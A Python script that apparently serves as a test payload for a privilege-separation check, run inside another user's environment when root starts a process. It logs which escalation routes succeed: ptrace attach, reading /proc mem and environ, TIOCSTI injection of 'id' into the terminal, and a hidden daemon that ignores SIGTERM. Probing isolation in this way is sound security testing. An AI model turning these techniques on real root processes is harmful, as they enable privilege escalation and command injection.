"""What an environment of another user's does in each of its processes that root starts: everything to get at root's."""

import ctypes
import fcntl
import os
import resource
import signal
import sys
import termios
import time
from collections.abc import Callable

WAY, MARKS = sys.argv_of_attack  # type: ignore[attr-defined]
above = os.getppid()
OUTSIDE = 0
"""A group or session that began outside this PID namespace, as in a container; to each call that takes a process it means the caller."""


def mark(what: object) -> None:
    with open(f"{MARKS}/{os.geteuid()}-{os.getpid()}", "a", encoding="utf-8") as file:
        file.write(f"{what}\n")


def got(name: str, act: object) -> None:
    try:
        found = act()  # type: ignore[operator]
    except (OSError, ValueError):
        return
    mark(f"GOT {name} {found!r}"[:200])


def typed(handle: int) -> None:
    for letter in b"id\n":
        fcntl.ioctl(handle, termios.TIOCSTI, bytes((letter,)))


def traced() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, above, 0, 0):
        raise OSError
    libc.ptrace(17, above, 0, 0)


def is_mine(pid: int) -> bool:
    with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as file:
        return f"Uid:\t{os.getuid()}\t" in file.read()


def reach() -> None:
    parents = set() if is_mine(above) else {above, os.getpgid(above), os.getsid(above)} - {OUTSIDE}
    for pid in parents:
        got("signal", lambda pid=pid: os.kill(pid, 0))
        got("limits", lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (9, 9)))
        got("priority", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19))
        got("affinity", lambda pid=pid: os.sched_setaffinity(pid, {0}))
        for name in ("mem", "environ", "maps", "fd", "cwd", "root"):
            place = f"/proc/{pid}/{name}"
            got(name, lambda place=place: os.listdir(place) if place.endswith("fd") else os.open(place, os.O_RDONLY))
    if parents:
        got("ptrace", traced)
        if (group := os.getpgid(above)) != OUTSIDE:
            got("group", lambda: os.killpg(group, 0))
    for handle in (0, 1, 2):
        got("TIOCSTI", lambda handle=handle: typed(handle))
    got("terminal", lambda: os.open("/dev/tty", os.O_RDWR))
    for handle in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            leads = os.readlink(f"/proc/self/fd/{handle}")
        except OSError:
            continue
        mark(f"FD {handle} {leads}")


def daemon() -> None:
    """One that stays, keeps what it inherited open, and shows nothing of itself: not its environment, not its owner in /proc."""
    if os.fork():
        return
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    mark(f"DAEMON {os.getpid()}")
    time.sleep(60)
    os._exit(0)


def flood(text: bytes) -> None:
    for handle in (1, 2):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            try:
                os.write(handle, text)
            except OSError:
                break


ACTS: dict[str, Callable[[], object]] = {
    "reach": reach,
    "daemon": daemon,
    "stop": lambda: os.kill(os.getpid(), signal.SIGSTOP),
    "flood": lambda: flood(b"x" * 65536),
    "lines": lambda: flood(b'{"a": 1}\n' * 8192),
}
if not getattr(sys, "attacked", False):
    sys.attacked = True  # type: ignore[attr-defined]
    mark("RAN")
    ACTS[WAY]()
